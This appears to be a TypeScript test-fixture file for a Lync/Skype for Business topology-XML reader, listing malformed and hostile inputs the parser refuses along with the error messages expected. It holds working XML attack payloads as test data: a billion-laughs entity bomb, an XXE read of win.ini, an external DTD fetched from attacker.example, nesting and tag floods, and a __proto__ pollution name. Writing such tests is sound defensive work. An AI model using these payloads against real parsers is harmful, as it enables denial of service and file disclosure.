// Inputs refused before any topology is read: not XML, hostile XML, the wrong document, the wrong encoding.
import { published, tbxml, type RefusalCase } from './refusal-inputs';

export const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008"><Sites><CentralSite SiteId="1"><Name>&lol9;</Name></CentralSite></Sites></Topology>`;

const XXE = `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE Topology [ <!ENTITY xxe SYSTEM "file:///C:/Windows/win.ini"> ]>
<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008"><InternalDomains DefaultDomain="&xxe;" /></Topology>`;

/** Each input that is not a readable topology document, and what the admin must be told about it. */
export const DOCUMENT_CASES: readonly RefusalCase[] = [
  { name: 'an empty string', xml: '', says: /The topology is empty\. Export the topology again/ },
  { name: 'only white space', xml: ' \r\n\t ', says: /The topology is empty/ },
  {
    name: 'plain text, not XML',
    xml: 'Identity : Global\nInternalDomains : {contoso.com}',
    says: /The topology is not XML: it starts with "Identity : Global Intern…"/,
  },
  {
    name: 'truncated XML',
    xml: published.slice(0, Math.floor(published.length * 0.6)),
    says: /not well-formed XML \(line \d+.*\)\. It may have been cut short/,
  },
  {
    name: 'mismatched tags',
    xml: '<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008"><Clusters></Topology>',
    says: /not well-formed XML \(line 1, column \d+: <\/Topology> closes the element <Clusters> opened on line 1, which must be closed first\)/,
  },
  {
    name: 'an attribute with no value, in the XML reader\'s words a "boolean attribute"',
    xml: '<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008"><Cluster InterfaceS></Cluster></Topology>',
    says: /not well-formed XML \(line 1, column \d+: the attribute InterfaceS has no value \(write it as name="value"\)\)/,
  },
  {
    name: 'an HTML page',
    xml: '<html><head><title>Sign in</title></head><body><p>Session expired</p></body></html>',
    says: /root element is <html> \(in no namespace\), not <Topology>.*It looks like a web page/,
  },
  {
    name: 'another root element',
    xml: '<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04"><Obj /></Objs>',
    says: /root element is <Objs> in namespace http:\/\/schemas\.microsoft\.com\/powershell\/2004\/04, not <Topology>/,
  },
  {
    name: 'a Topology in the wrong namespace',
    xml: published.replace('urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008', 'urn:schema:Contoso.Topology'),
    says: /root element <Topology> is in namespace urn:schema:Contoso\.Topology, not in urn:schema:Microsoft\.Rtc\.Management\.Deploy\.Topology\.2008/,
  },
  {
    name: 'a Topology in no namespace',
    xml: published.replace(' xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008"', ''),
    says: /root element <Topology> is in no namespace, not in urn:schema:Microsoft\.Rtc\.Management\.Deploy\.Topology\.2008/,
  },
  {
    name: 'a TopologyBuilder in the wrong namespace',
    xml: tbxml.replace('Deploy.TopologyBuilder.2008', 'Deploy.TopologyBuilder.2099'),
    says: /root element <TopologyBuilder> is in namespace .*TopologyBuilder\.2099, not in urn:schema:Microsoft\.Rtc\.Management\.Deploy\.TopologyBuilder\.2008/,
  },
  {
    name: 'an entity-expansion attack (billion laughs)',
    xml: BILLION_LAUGHS,
    says: /declares entities.*"billion laughs".*refused without expanding anything/,
  },
  {
    name: 'an external entity (XXE, SYSTEM)',
    xml: XXE,
    says: /declares an external entity or DTD \(SYSTEM\/PUBLIC\).*refused without reading it/,
  },
  {
    name: 'a DOCTYPE alone',
    xml: `<!DOCTYPE Topology>\n${published.replace(/^<\?xml[^>]*>\s*/, '')}`,
    says: /has a document type declaration \(<!DOCTYPE …>\)\. A topology export never has one/,
  },
  {
    name: 'a DOCTYPE with an external DTD',
    xml: `<?xml version="1.0"?><!DOCTYPE Topology PUBLIC "-//X//DTD T//EN" "http://attacker.example/t.dtd"><Topology/>`,
    says: /external entity or DTD/,
  },
  {
    name: 'an undeclared namespace prefix',
    xml: '<t:Topology><t:Clusters /></t:Topology>',
    says: /uses the namespace prefix "t" without declaring it/,
  },
  {
    name: 'input over the size cap',
    xml: `${published}${' '.repeat(21 * 1024 * 1024)}`,
    says: /The topology is 21\.0 MB; .* at most 20 MB is read/,
  },
  {
    // Counted in UTF-8 bytes, as a file's size is, so a chosen file can be refused before it is read.
    name: 'input over the size cap in bytes, within it in characters',
    xml: `${published}${'é'.repeat(11 * 1024 * 1024)}`,
    says: /The topology is 22\.0 MB; .* at most 20 MB is read/,
  },
  {
    name: 'binary garbage',
    xml: String.fromCharCode(
      0x89,
      0x50,
      0x4e,
      0x47,
      0x0d,
      0x0a,
      0x1a,
      0x0a,
      0,
      0,
      0,
      0x0d,
      0x49,
      0x48,
      0x44,
      0x52,
      0xff,
      0xfe,
    ),
    says: /The topology holds binary data, not text/,
  },
  {
    name: 'a ZIP archive (Export-CsConfiguration output)',
    xml: 'PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000DocItemSet.xml',
    says: /This is a ZIP archive \(perhaps the configuration from Export-CsConfiguration\), not a topology/,
  },
  {
    name: 'UTF-16 text read as UTF-8',
    xml: '<\u0000?\u0000x\u0000m\u0000l\u0000 \u0000v\u0000e\u0000r\u0000s\u0000i\u0000o\u0000n\u0000',
    says: /looks like UTF-16 text read as UTF-8.*Out-File -Encoding UTF8/,
  },
  {
    name: 'control characters',
    xml: `<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008">\u0007</Topology>`,
    says: /control characters that XML does not allow/,
  },
  {
    name: 'a .tbxml with OldTopology only',
    xml: tbxml.replace(/NewTopology/g, 'OldTopology'),
    says: /has an OldTopology but no NewTopology/,
  },
  {
    name: 'a .tbxml whose NewTopology holds no PartialTopology',
    xml: tbxml.replace(/Deploy\.WritableTopology\.2008/, 'Deploy.Other.2008'),
    says: /NewTopology holds no PartialTopology in namespace urn:schema:Microsoft\.Rtc\.Management\.Deploy\.WritableTopology\.2008/,
  },
  {
    name: 'nesting far deeper than any topology',
    xml: `<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008">${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</Topology>`,
    says: /could not be read as XML \(Maximum nested tags exceeded\)/,
  },
  {
    name: 'a flood of tags',
    xml: `<Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008">${'<x/>'.repeat(600_000)}</Topology>`,
    says: /more than 500,000 tags; a topology export has a few thousand/,
  },
  {
    name: 'a prototype-polluting element name',
    xml: '<__proto__><polluted>1</polluted></__proto__>',
    says: /could not be read as XML \(.*__proto__.*\)/,
  },
];
